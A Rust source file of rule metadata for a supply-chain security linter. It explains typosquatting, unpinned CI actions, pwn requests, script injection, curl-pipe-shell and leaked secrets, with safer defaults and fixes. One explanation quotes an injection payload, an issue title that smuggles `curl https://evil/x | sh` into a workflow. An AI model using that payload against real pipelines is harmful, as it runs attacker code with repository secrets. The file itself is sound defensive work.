//! Registry entries of the supply-chain checks: the four-part explanation of each decision.

use crate::analysis::{Confidence, Severity};
use crate::rules::meta::{Explanation, RuleMeta};

struct Spec {
    id: &'static str,
    title: &'static str,
    severity: Severity,
    confidence: Confidence,
    cwe: &'static [&'static str],
    languages: &'static [&'static str],
    message: &'static str,
    decision: &'static str,
    attacker: &'static str,
    safer_default: &'static str,
    fix: &'static str,
    references: &'static [&'static str],
}

const OWASP: &str = "A06:2021 Vulnerable and Outdated Components";
const OWASP_INTEGRITY: &str = "A08:2021 Software and Data Integrity Failures";

const SPECS: &[Spec] = &[
    Spec {
        id: "dependency-typosquat",
        title: "Dependency name one edit away from a popular package",
        severity: Severity::Warning,
        confidence: Confidence::Medium,
        cwe: &["CWE-1357", "CWE-829"],
        languages: &["any"],
        message: "`{finding}` looks like a misspelling of a popular package",
        decision: "You are choosing which package the installer downloads and runs: the name in the manifest is the whole decision, and this one differs from a very popular package by a single typo, separator, look-alike character or ecosystem prefix.",
        attacker: "Typosquatters register near-miss names of popular packages and wait; install scripts and import-time code run with your credentials the first time anyone installs the misspelt name, on a laptop or in CI.",
        safer_default: "Copy dependency names from the package's own documentation or registry page, and add them with the package manager (`pip install`, `npm install`, `cargo add`) rather than by typing the manifest by hand.",
        fix: "If you meant the popular package, apply the quick fix to replace the name; if the lesser-known package is really intended, check its owner and history and suppress with `vigil: ignore[dependency-typosquat] reason`.",
        references: &["https://docs.rs/typomania", "https://dl.acm.org/doi/10.1007/978-3-030-65745-1_7"],
    },
    Spec {
        id: "undeclared-import",
        title: "Import of a package no manifest declares",
        severity: Severity::Warning,
        confidence: Confidence::Medium,
        cwe: &["CWE-829", "CWE-1357"],
        languages: &["python", "javascript", "typescript", "rust"],
        message: "`{finding}` is imported but no manifest declares it",
        decision: "You are bringing a third-party package into the code without declaring it, so nobody reviews, pins or audits it, and the next developer will install whatever name the import suggests.",
        attacker: "Code assistants regularly suggest packages that do not exist; attackers register those names (slopsquatting) so that `pip install` or `npm install` of the hallucinated import fetches their code.",
        safer_default: "Declare every third-party package in the project's manifest (with the registry name checked against its documentation) before importing it, so review, lock files and audits see it.",
        fix: "Check that the package exists, is maintained and is the one you mean, then add it to requirements/pyproject, package.json or Cargo.toml; if it is first-party code, make the import relative or declare the local package.",
        references: &["https://socket.dev/blog/slopsquatting-how-ai-hallucinations-are-fueling-a-new-class-of-supply-chain-attacks"],
    },
    Spec {
        id: "ci-action-unpinned",
        title: "Third-party CI action not pinned to a commit",
        severity: Severity::Warning,
        confidence: Confidence::High,
        cwe: &["CWE-829", "CWE-494"],
        languages: &["any"],
        message: "`{finding}` is not pinned to a full commit SHA",
        decision: "You are letting someone else's repository decide what code runs in your pipeline: a tag or branch like `@v4` is a movable pointer that its owner, or whoever compromises the owner, can repoint at any time.",
        attacker: "Compromising one popular action and moving its tags (as happened to `tj-actions/changed-files` in 2025) runs the attacker's code in every pipeline that follows the tag, with that pipeline's token and secrets.",
        safer_default: "Pin third-party actions, reusable workflows and CI includes to a full 40-character commit SHA, with the version in a comment (`uses: owner/action@<sha> # v4.1.0`), and let Dependabot or Renovate propose updates.",
        fix: "Look up the commit the tag points to (`git ls-remote https://github.com/owner/action v4`) and replace the tag with that SHA, keeping the tag as a comment.",
        references: &["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"],
    },
    Spec {
        id: "ci-action-unapproved",
        title: "CI action outside the approved list",
        severity: Severity::Warning,
        confidence: Confidence::High,
        cwe: &["CWE-1357"],
        languages: &["any"],
        message: "`{finding}` is not on the approved list",
        decision: "You are adding a CI integration that the workspace's `[governance] approved` list does not cover: shadow tooling that runs with the pipeline's credentials without the review the list stands for.",
        attacker: "Every unreviewed integration is one more maintainer, repository and release process that can be compromised to reach your secrets, deployment keys and release artefacts.",
        safer_default: "Use actions and CI components from the approved list, and propose additions through the same review that maintains `.vigil.toml`.",
        fix: "Replace the action with an approved equivalent, or get it reviewed and add its `owner/repo` (or a glob such as `owner/*`) to `[governance] approved` in `.vigil.toml`.",
        references: &[],
    },
    Spec {
        id: "ci-pull-request-target-checkout",
        title: "pull_request_target workflow checks out the pull request's code",
        severity: Severity::Error,
        confidence: Confidence::High,
        cwe: &["CWE-829", "CWE-94"],
        languages: &["any"],
        message: "a `pull_request_target` workflow checks out untrusted pull request code",
        decision: "You are running code from a stranger's pull request in the privileged `pull_request_target` context, which holds the base repository's secrets and a write token.",
        attacker: "Anyone can open a pull request whose build scripts, test hooks or package install steps exfiltrate the secrets or push to the repository (a \"pwn request\").",
        safer_default: "Build and test pull requests with the unprivileged `pull_request` trigger; keep `pull_request_target` for steps that never touch the pull request's files (labelling, commenting).",
        fix: "Switch the workflow to `on: pull_request`, or split it: an unprivileged `pull_request` job builds and uploads artefacts, and a `workflow_run` job with secrets consumes only those artefacts as data.",
        references: &["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"],
    },
    Spec {
        id: "ci-script-injection",
        title: "Attacker-controlled event data expanded inside a script",
        severity: Severity::Error,
        confidence: Confidence::High,
        cwe: &["CWE-78", "CWE-94"],
        languages: &["any"],
        message: "`{finding}` is expanded into the script text",
        decision: "You are pasting event data (an issue title, a comment, a branch name) into the script's source with `${{ }}`: the expansion happens before the shell parses the script, so the data becomes code.",
        attacker: "An attacker opens an issue titled `\"; curl https://evil/x | sh; #` or names a branch `$(…)`, and the workflow runs it with the repository's token and secrets.",
        safer_default: "Pass event data through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted (`\"$TITLE\"`), so the shell treats it as data.",
        fix: "Move the expression into the step's `env:` block under a name, and refer to that variable, quoted, in the script.",
        references: &["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"],
    },
    Spec {
        id: "ci-curl-pipe-shell",
        title: "Downloaded script piped into a shell in CI",
        severity: Severity::Warning,
        confidence: Confidence::High,
        cwe: &["CWE-494"],
        languages: &["any"],
        message: "a downloaded script is piped straight into an interpreter",
        decision: "You are running whatever a URL serves at build time, unreviewed and unverified, inside a pipeline that holds deployment credentials.",
        attacker: "Whoever controls that server, domain or CDN path (or a network position in between) swaps the script and runs code in every build; the Codecov bash uploader compromise worked exactly this way.",
        safer_default: "Install tools from a package manager or a pinned, checksummed release, or download the script, verify its SHA-256 against a value committed to the repository, then run it.",
        fix: "Replace `curl … | sh` with `curl -fsSLo tool.sh URL && echo \"<sha256>  tool.sh\" | sha256sum -c && sh tool.sh`, or with a pinned setup action.",
        references: &["https://about.codecov.io/security-update/"],
    },
    Spec {
        id: "ci-permissions-write-all",
        title: "Workflow token with write-all permissions",
        severity: Severity::Warning,
        confidence: Confidence::High,
        cwe: &["CWE-250"],
        languages: &["any"],
        message: "`permissions: write-all` grants every scope to the workflow token",
        decision: "You are giving every step of this workflow, including third-party actions, a token that can push code, create releases, publish packages and edit settings.",
        attacker: "One compromised action or injected script turns that token into a repository takeover: pushing a backdoor to the default branch or publishing a poisoned release.",
        safer_default: "Declare `permissions: contents: read` at the workflow level and grant each job only the extra scopes it needs (`pull-requests: write`, `packages: write`).",
        fix: "Replace `write-all` with the specific scopes the jobs use, starting from `contents: read`.",
        references: &["https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"],
    },
    Spec {
        id: "ci-secret-echoed",
        title: "Secret printed to the CI log",
        severity: Severity::Error,
        confidence: Confidence::Medium,
        cwe: &["CWE-532"],
        languages: &["any"],
        message: "`{finding}` is printed to the job log",
        decision: "You are writing a secret into the job log, which is kept for months and readable by everyone with read access to the repository (for public repositories, everyone).",
        attacker: "Log masking only catches the exact secret string: printed with a prefix split, encoded or in a debug dump, it is readable by anyone who browses the logs or artefacts.",
        safer_default: "Never print secrets: pass them to tools through environment variables or stdin (`--password-stdin`), and write them to files with `>` when a tool needs a file.",
        fix: "Remove the `echo` of the secret; if a tool needs it, pipe it into the tool's stdin or write it to a file with restrictive permissions.",
        references: &["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"],
    },
];

/// Every supply-chain rule.
pub fn all() -> Vec<RuleMeta> {
    SPECS
        .iter()
        .map(|spec| RuleMeta {
            id: spec.id.to_string(),
            title: spec.title.to_string(),
            severity: spec.severity,
            category: "supply-chain".to_string(),
            cwe: spec.cwe.iter().map(|c| c.to_string()).collect(),
            owasp: vec![if spec.id.starts_with("ci-") {
                OWASP_INTEGRITY.to_string()
            } else {
                OWASP.to_string()
            }],
            languages: spec.languages.iter().map(|l| l.to_string()).collect(),
            confidence: spec.confidence,
            message: spec.message.to_string(),
            explanation: Explanation {
                decision: spec.decision.to_string(),
                attacker: spec.attacker.to_string(),
                safer_default: spec.safer_default.to_string(),
                fix: spec.fix.to_string(),
                references: spec.references.iter().map(|r| r.to_string()).collect(),
            },
            fixes: Vec::new(),
        })
        .collect()
}
